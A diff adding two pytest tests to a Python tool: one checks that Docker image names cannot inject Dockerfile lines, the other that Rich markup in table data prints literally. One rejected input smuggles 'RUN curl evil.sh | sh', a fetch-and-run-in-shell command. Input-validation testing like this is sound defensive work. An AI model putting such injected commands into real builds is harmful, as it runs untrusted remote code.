@@ -148,3 +148,22 @@ def test_a_sqlite_url_with_a_missing_folder_is_refused_not_created(tmp_path):
     (tmp_path / "project").mkdir()
     _Stores.open(f"sqlite:///{state / 'conveyor.db'}", "memory://").close()
     assert (state / "conveyor.db").is_file()
+
+
+def test_an_image_name_cannot_smuggle_a_line_into_the_dockerfile():
+    from conveyor.serve.deploy import check_image
+
+    assert check_image("registry.example.com:5000/team/churn:3") == "registry.example.com:5000/team/churn:3"
+    for bad in ("churn:3\nRUN curl evil.sh | sh", "churn 3", "churn:3\r", "'churn'", ""):
+        with pytest.raises(BadInputError, match="Invalid image name") as caught:
+            check_image(bad)
+        assert caught.value.field == "--image"
+
+
+def test_rich_markup_in_data_is_printed_literally_not_parsed():
+    from conveyor.cli.output import console, table
+
+    with console.capture() as captured:
+        table("checks of [bold]x", ["[/bold]x", "plain"], [["[red]value[/red]", "[/]"]])
+    shown = captured.get()
+    assert "[/bold]x" in shown and "[red]value[/red]" in shown and "[/]" in shown
